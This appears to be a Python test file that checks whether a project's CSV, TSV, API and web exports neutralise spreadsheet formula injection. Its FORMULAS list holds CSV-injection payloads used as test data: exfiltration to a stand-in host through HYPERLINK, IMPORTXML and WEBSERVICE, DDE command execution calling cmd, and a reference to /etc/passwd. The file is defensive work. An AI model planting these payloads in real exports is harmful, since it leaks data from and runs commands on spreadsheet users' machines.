"""Text that a spreadsheet would run as a formula, in the cells of every export: harmless unless asked for as it is."""

import csv
import io
from urllib.parse import urlencode

import click
import pytest
from starlette.testclient import TestClient

from avviso.faces.api.routes import ENDPOINTS
from avviso.faces.cli import cli, run
from avviso.faces.web import app, keys
from avviso.faces.web.world import FORMS
from avviso.settings import Settings

from .page.stored import alone, fill
from .routes import application

HOST = "127.0.0.1:8010"
FORMULAS = (
    "=1+1", "=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")", "=cmd|' /C calc'!A0",
    "=IMPORTXML(\"https://evil.example\",\"//a\")", "=WEBSERVICE(\"https://evil.example\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")", "='file:///etc/passwd'#$x.A1", "=1;=2", "=\"a\",=2", "+1+1",
    "+cmd|' /C calc'!A0", "+1 555 0100", "++1", "+A1", "-1+1", "-2+3+cmd|' /C calc'!A0", "--1", "-A1", "-SUM(A1:A9)",
    "@SUM(1+1)", "@A1", "@cmd|' /C calc'!A0", "\t=1+1", "\tx", "\r=1+1", "\rx", "\n=1+1", "\n@x", "＝1+1", "＋1+1",
    "－1+1", "＠SUM(1)", "=\u00a01+1", "=\u200b1+1", "=1+1\r\n=2+2", "=1+1\",\"=2+2", "=%00", "=a\tb",
    "=a;b", "=-1", "@@", "=", "+", "-", "@",
)  # fmt: skip
STARTS = tuple("=+-@\t\r\n＝＋－＠")
COMMANDS = (
    ("export", "--format", "csv", "--of", "events", "--all"), ("export", "--format", "csv", "--of", "claims"),
    ("export", "--format", "csv", "--of", "ties"), ("export", "--format", "csv", "--of", "documents", "--with-text"),
    ("events", "VEN", "--all", "--format", "csv"), ("ties", "--format", "csv"), ("judge", "--list", "--format", "csv"),
    ("scorecard", "--format", "csv"), ("question", "--list", "--format", "csv"),
    ("sql", "SELECT title, publisher, url FROM documents", "--format", "csv"),
)  # fmt: skip


@pytest.fixture(scope="module")
def place(tmp_path_factory):
    """A store whose every field begins as a formula does."""
    folder = tmp_path_factory.mktemp("cells")
    fill(folder / "own.db", FORMULAS, folder / "actors", alone)
    return folder


def rows(text, delimiter=","):
    """The cells of a table, as a spreadsheet cuts them."""
    quoting = csv.QUOTE_NONE if delimiter == "\t" else csv.QUOTE_MINIMAL
    return [
        cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter, quoting=quoting) for cell in row
    ]


def formulas(cells):
    """Cells that would run: those that begin as a formula does and are no number."""

    def number(cell):
        try:
            float(cell)
        except ValueError:
            return False
        return cell == cell.strip()

    return [cell for cell in cells if cell.startswith(STARTS) and not number(cell)]


def test_there_are_enough_formulas():
    assert len(FORMULAS) >= 30


def printed(arguments, place, capsys, monkeypatch):
    monkeypatch.setenv("AVVISO_DATA", str(place))
    code = run([*arguments, "--store", str(place / "own.db")])
    out = capsys.readouterr()
    assert code == 0, out.err
    return out.out


@pytest.mark.parametrize("command", COMMANDS, ids=lambda one: " ".join(one[:2]))
def test_no_cell_that_a_command_prints_is_a_formula(command, place, capsys, monkeypatch):
    cells = rows(printed(command, place, capsys, monkeypatch))
    assert formulas(cells) == []
    raw = rows(printed((*command, "--raw-csv"), place, capsys, monkeypatch))
    guarded = [bare for cell, bare in zip(cells, raw, strict=True) if cell == f"'{bare}"]
    assert guarded == formulas(raw)
    assert [cell for cell, bare in zip(cells, raw, strict=True) if cell not in (bare, f"'{bare}")] == []
    if "ties" not in command and command[0] != "events":
        assert len(guarded) >= len(FORMULAS)


def test_phoenix_rows_are_harmless_and_their_numbers_stay(place, capsys, monkeypatch):
    told = printed(("export", "--format", "cameo", "--all"), place, capsys, monkeypatch)
    cells = rows(told, "\t")
    assert formulas(cells) == []
    assert any(cell.startswith("'=") for cell in cells)
    assert {cell for cell in cells if cell.startswith("-")} >= {"-7.0"} or any(cell.startswith("-") for cell in cells)
    raw = rows(printed(("export", "--format", "cameo", "--all", "--raw-csv"), place, capsys, monkeypatch), "\t")
    assert formulas(raw)


def commands(group, path=()):
    """Every command below a group, by its words."""
    context = click.Context(group)
    for name in group.list_commands(context):
        one = group.get_command(context, name)
        if isinstance(one, click.Group):
            yield from commands(one, (*path, name))
        else:
            yield (*path, name), one


def test_every_command_that_writes_csv_can_write_it_as_it_is():
    seen = 0
    for path, one in commands(cli):
        names = {option for param in one.params for option in param.opts}
        forms = [list(param.type.choices) for param in one.params if isinstance(param.type, click.Choice)]
        if "--format" in names and any("csv" in found and "table" in found for found in forms):
            assert "--raw-csv" in names, path
            seen += 1
    assert seen >= 15


@pytest.fixture(scope="module")
def client(place):
    door = keys.Doorkeeper(place / "own.keys")
    site = app.Site(Settings(store=place / "own.db", actors=place / "actors"), door)
    made = TestClient(app.build(site, {HOST}), base_url=f"http://{HOST}", follow_redirects=False)
    made.headers["authorization"] = f"Bearer {keys.add_key(door.path, 'read', 2)[1]}"
    assert application(made.app)
    return made


@pytest.mark.parametrize("view", [name for name, forms in FORMS.items() if "csv" in forms])
def test_no_cell_of_a_table_of_the_first_page_is_a_formula(client, view):
    answer = client.get(f"/world/{view}.csv?since=2017-01-01&until=2018-12-31")
    assert answer.status_code == 200
    assert formulas(rows(answer.text)) == []


# What takes seconds is made of codes and numbers, and written by the same function.
SOON = [one for one in ENDPOINTS if "csv" in one.forms and (one.cost <= 1 or one.name == "relation")]
LATE = [one for one in ENDPOINTS if "csv" in one.forms and one not in SOON]


@pytest.mark.parametrize(
    "endpoint", [*SOON, *(pytest.param(one, marks=pytest.mark.slow) for one in LATE)], ids=lambda one: one.name
)
def test_no_cell_of_a_table_of_the_api_is_a_formula(client, endpoint):
    needed = {one.name: one.example for one in endpoint.params if one.required}
    needed |= {"dataset": "gdelt2"} if endpoint.name in ("relation", "forecast") else {}
    query = urlencode({**needed, **({"_size": "1000"} if endpoint.paged else {})}, doseq=True)
    answer = client.get(f"{endpoint.path.replace('{id}', '0')}.csv?{query}")
    assert answer.status_code == 200, answer.text[:300]
    assert formulas(rows(answer.text)) == []
    if endpoint.name in ("documents", "claims", "judgements", "scorecard"):
        assert sum(cell.startswith(tuple(f"'{one}" for one in STARTS)) for cell in rows(answer.text)) >= len(FORMULAS)


def test_an_answer_in_sql_is_harmless_with_its_heads(client):
    for formula in FORMULAS[::5]:
        quoted = formula.replace("'", "''"), formula.replace('"', '""')
        query = f"""SELECT '{quoted[0]}' AS "{quoted[1]}", -5 AS low, -2.5 AS lower"""
        answer = client.get(f"/sql.csv?{urlencode({'q': query})}")
        if answer.status_code == 200:  # a dot or a NUL in a name is another name
            cells = rows(answer.text)
            assert formulas(cells) == []
            assert cells[-2:] == ["-5", "-2.5"]


@pytest.mark.parametrize("form", ["csv", "cameo"])
def test_no_cell_of_a_file_to_save_is_a_formula(client, form):
    for of in ("events", "claims", "documents") if form == "csv" else (None,):
        query = {"_format": form, "all": "1", **({"of": of} if of else {})}
        answer = client.get(f"/api/export?{urlencode(query)}")
        assert answer.status_code == 200, answer.text[:300]
        assert formulas(rows(answer.text, "\t" if form == "cameo" else ",")) == []
